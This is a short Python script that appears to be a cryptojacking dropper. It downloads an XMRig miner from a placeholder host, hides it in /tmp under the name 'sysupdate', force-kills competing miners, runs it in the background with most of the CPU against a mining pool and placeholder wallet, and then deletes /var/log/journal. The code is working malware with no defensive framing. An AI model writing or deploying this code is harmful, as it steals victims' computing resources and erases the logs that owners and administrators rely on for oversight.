#!/usr/bin/env python3
import os, tarfile, urllib.request, subprocess, multiprocessing, shutil

WORK = "/tmp/.cache/.sysupdate"
URL = "https://github.example.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"
POOL = "pool.example.org:3333"
WALLET = "4AxxxxPLACEHOLDERWALLETxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"

def running():
    out = subprocess.run(["ps", "aux"], capture_output=True, text=True).stdout
    return "sysupdate" in out

def fetch():
    os.makedirs(WORK, exist_ok=True)
    tgz = os.path.join(WORK, "x.tgz")
    urllib.request.urlretrieve(URL, tgz)
    with tarfile.open(tgz) as t:
        for m in t.getmembers():
            if m.name.endswith("/xmrig"):
                m.name = "sysupdate"
                t.extract(m, WORK)
    os.remove(tgz)
    os.chmod(os.path.join(WORK, "sysupdate"), 0o755)

def kill_rivals():
    for name in ("kinsing", "kdevtmpfsi", "xmrig", "minerd"):
        subprocess.run(["pkill", "-9", "-f", name], stderr=subprocess.DEVNULL)

if __name__ == "__main__":
    if not running():
        kill_rivals()
        if not os.path.exists(os.path.join(WORK, "sysupdate")):
            fetch()
        threads = max(1, multiprocessing.cpu_count() - 1)
        subprocess.Popen([
            os.path.join(WORK, "sysupdate"),
            "-o", POOL, "-u", WALLET, "-p", os.uname().nodename,
            "-k", "--donate-level", "0", "-t", str(threads),
            "--background", "--cpu-max-threads-hint", "90",
        ], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    shutil.rmtree("/var/log/journal", ignore_errors=True)
